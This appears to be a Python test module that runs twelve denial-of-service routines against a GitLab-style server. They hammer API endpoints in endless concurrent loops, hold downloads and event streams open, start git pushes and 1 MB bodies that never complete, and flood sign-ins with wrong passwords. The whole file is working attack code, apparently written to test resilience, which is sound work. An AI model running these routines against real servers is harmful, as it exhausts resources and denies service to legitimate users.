"""A caller who takes of one resource of the server all that they can get, until canceled."""

import asyncio
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import AsyncExitStack
from dataclasses import dataclass, field
from typing import Any, Final

import httpx

from git.transport.pkt_line import packet
from tests import forms

LINES: Final = 20_000
"""Of each file that is compared."""
LARGE: Final = 1_000_000
"""Bytes of a body that is held open: less than what is refused."""


@dataclass
class Greedy:
    """Who they are, and what they were given: answers by status, and what they hold open."""

    url: str
    token: str
    project: int
    path: str
    answers: list[int] = field(default_factory=list)
    open: int = 0

    def client(self) -> httpx.AsyncClient:
        """A client with as many connections as it likes."""
        limits = httpx.Limits(max_connections=None)
        return httpx.AsyncClient(
            base_url=self.url, headers={"PRIVATE-TOKEN": self.token}, timeout=60, trust_env=False, limits=limits
        )

    async def again(self, times: int, method: str, path: str, **more: Any) -> None:
        """Make so many calls at a time, one after the other."""

        async def one() -> None:
            while True:
                response = await client.request(method, path, **more)
                self.answers.append(response.status_code)

        async with self.client() as client:
            await asyncio.gather(*(one() for _ in range(times)))

    async def hold(self, times: int, path: str) -> None:
        """Open so many answers and read no more than their heads."""
        async with self.client() as client, AsyncExitStack() as stack:
            for _ in range(times):
                response = await stack.enter_async_context(client.stream("GET", path))
                self.answers.append(response.status_code)
                self.open += response.status_code == httpx.codes.OK
            await asyncio.Event().wait()

    async def send(self, times: int, path: str, kind: str, beginning: bytes) -> None:
        """Begin so many bodies that never end."""

        async def body() -> AsyncIterator[bytes]:
            yield beginning
            self.open += 1
            await asyncio.Event().wait()

        async with self.client() as client:
            headers = {"Content-Type": kind}
            auth = httpx.BasicAuth("eve", self.token)
            await asyncio.gather(*(client.post(path, content=body(), headers=headers, auth=auth) for _ in range(times)))


async def follow(eve: Greedy) -> None:
    """Event streams."""
    await eve.hold(80, "/-/events")


async def compare(eve: Greedy) -> None:
    """Git, and what its answers are made into."""
    path = f"/api/v4/projects/{eve.project}/repository/compare?from=main~1&to=main&straight=true"
    await eve.again(16, "GET", path)


async def list_files(eve: Greedy) -> None:
    """Git's threads, and long lists."""
    await eve.again(16, "GET", f"/api/v4/projects/{eve.project}/repository/tree?recursive=true&per_page=100")


async def download(eve: Greedy) -> None:
    """Processes of git whose output nobody takes."""
    await eve.hold(6, f"/api/v4/projects/{eve.project}/repository/archive.tar.gz")


async def push(eve: Greedy) -> None:
    """Pushes that do not go on."""
    line = packet(f"{'0' * 40} {'1' * 40} refs/heads/a\0 report-status\n".encode())
    kind = "application/x-git-receive-pack-request"
    await eve.send(24, f"/{eve.path}.git/git-receive-pack", kind, line)


async def fetch(eve: Greedy) -> None:
    """Fetches that do not go on."""
    await eve.send(24, f"/{eve.path}.git/git-upload-pack", "application/x-git-upload-pack-request", b"0032want ")


async def check(eve: Greedy) -> None:
    """The processes that compile."""
    text = "a: {script: x, parallel: 200}\n" + "".join(f"a{n}: {{script: x, parallel: 200}}\n" for n in range(15))
    await eve.again(8, "POST", f"/api/v4/projects/{eve.project}/ci/lint", json={"content": text, "include_jobs": True})


async def fill(eve: Greedy) -> None:
    """Memory for bodies that are read before anything is done."""
    await eve.send(60, "/api/v4/groups", "application/json", b'{"name": "' + b"a" * LARGE)


async def guess(eve: Greedy) -> None:
    """The threads that hash passwords."""
    form = {"username": "eve", "password": "wrong"}
    headers = {"Origin": eve.url, "Accept": "text/html", **forms.BOTH}
    await eve.again(16, "POST", "/users/sign_in", data=form, headers=headers)


async def ask(eve: Greedy) -> None:
    """Connections to the database."""
    await eve.again(24, "GET", f"/api/v4/projects/{eve.project}/jobs?per_page=100&scope[]=success&scope[]=failed")


async def fill_forms(eve: Greedy) -> None:
    """The places of those who show no account, and memory for their forms."""
    nobody = Greedy(eve.url, "", eve.project, eve.path, eve.answers)
    form = b"username=" + b"a" * LARGE
    try:
        await nobody.send(200, "/users/sign_in", "application/x-www-form-urlencoded", form)
    finally:
        eve.open = nobody.open


async def ask_much(eve: Greedy) -> None:
    """More calls than there are connections to the database, of the API and of pages."""
    project = f"/api/v4/projects/{eve.project}"
    paths = (f"{project}/pipelines", f"{project}/variables", f"{project}/members/all", "/api/v4/events", "/")
    await asyncio.gather(*(eve.again(24, "GET", path) for path in paths))


ATTACKS: Final[dict[str, Callable[[Greedy], Coroutine[Any, Any, None]]]] = {
    "event streams": follow,
    "git": compare,
    "lists of git": list_files,
    "output of git": download,
    "pushes": push,
    "fetches": fetch,
    "compiler": check,
    "buffered bodies": fill,
    "password hashing": guess,
    "database connections": ask,
    "slow bodies": fill_forms,
    "many calls": ask_much,
}
